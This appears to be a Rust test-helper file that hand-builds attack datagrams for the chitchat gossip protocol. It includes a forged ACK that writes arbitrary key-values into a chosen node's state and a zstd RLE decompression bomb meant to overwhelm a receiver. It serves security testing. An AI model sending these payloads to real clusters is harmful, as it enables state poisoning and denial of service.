//! Hand-built chitchat datagrams for attack tests, written from chitchat 0.13's wire format:
//! magic (u16 LE), protocol version (u8), message type (u8), body. Strings are u16-LE-length
//! prefixed; a delta is a block stream (0 = end, 1 = zstd block, 2 = raw block, each with a
//! u16 length) of ops (0 = node, 1 = key-value, 2 = set-max-version).

use std::net::SocketAddrV4;

const MAGIC: u16 = 45_139;
pub const SYN: u8 = 0;
pub const SYN_ACK: u8 = 1;
pub const ACK: u8 = 2;
pub const BAD_CLUSTER: u8 = 3;

pub fn header(message_type: u8) -> Vec<u8> {
    let mut buf = MAGIC.to_le_bytes().to_vec();
    buf.push(0); // protocol V0
    buf.push(message_type);
    buf
}

fn put_str(buf: &mut Vec<u8>, s: &str) {
    buf.extend((s.len() as u16).to_le_bytes());
    buf.extend(s.as_bytes());
}

/// An ACK whose delta writes `kvs` (key, value, version; versions increasing) into the state
/// of the node `(node_id, generation, addr)`, claiming `max_version` for it.
pub fn forged_ack(
    node_id: &str,
    generation: u64,
    addr: SocketAddrV4,
    kvs: &[(&str, &str, u64)],
    max_version: u64,
) -> Vec<u8> {
    let mut ops = vec![0u8];
    put_str(&mut ops, node_id);
    ops.extend(generation.to_le_bytes());
    ops.push(4);
    ops.extend(addr.ip().octets());
    ops.extend(addr.port().to_le_bytes());
    ops.extend(0u64.to_le_bytes()); // last gc version
    ops.extend(0u64.to_le_bytes()); // from version (excluded)
    for (key, value, version) in kvs {
        ops.push(1);
        put_str(&mut ops, key);
        put_str(&mut ops, value);
        ops.extend(version.to_le_bytes());
        ops.push(0); // set, not deleted
    }
    ops.push(2);
    ops.extend(max_version.to_le_bytes());

    let mut buf = header(ACK);
    buf.push(2);
    buf.extend((ops.len() as u16).to_le_bytes());
    buf.extend(ops);
    buf.push(0);
    buf
}

/// An ACK whose delta is `blocks` zstd frames, each 11 bytes that inflate to 65 535 copies of
/// `byte`. With `byte` = 2 every 9 inflated bytes decode as one "set max version" op, so the
/// receiver materialises ~7 300 ops per 14 datagram bytes before it notices the stream is bad.
pub fn rle_bomb(blocks: usize, byte: u8) -> Vec<u8> {
    const FRAME: [u8; 10] = [
        0x28, 0xB5, 0x2F, 0xFD, // zstd magic
        0x60, // single segment, 2-byte content size
        0xFF, 0xFE, // content size 65 535 (stored minus 256)
        0xFB, 0xFF, 0x07, // last block, RLE, 65 535 bytes
    ];
    let mut buf = header(ACK);
    for _ in 0..blocks {
        buf.push(1);
        buf.extend(11u16.to_le_bytes());
        buf.extend(FRAME);
        buf.push(byte);
    }
    buf.push(0);
    buf
}

/// Deterministic xorshift bytes: reproducible garbage without a dependency.
pub struct Garbage(u64);

impl Garbage {
    pub fn new(seed: u64) -> Self {
        Garbage(seed | 1)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    pub fn bytes(&mut self, len: usize) -> Vec<u8> {
        (0..len).map(|_| self.next_u64() as u8).collect()
    }
}
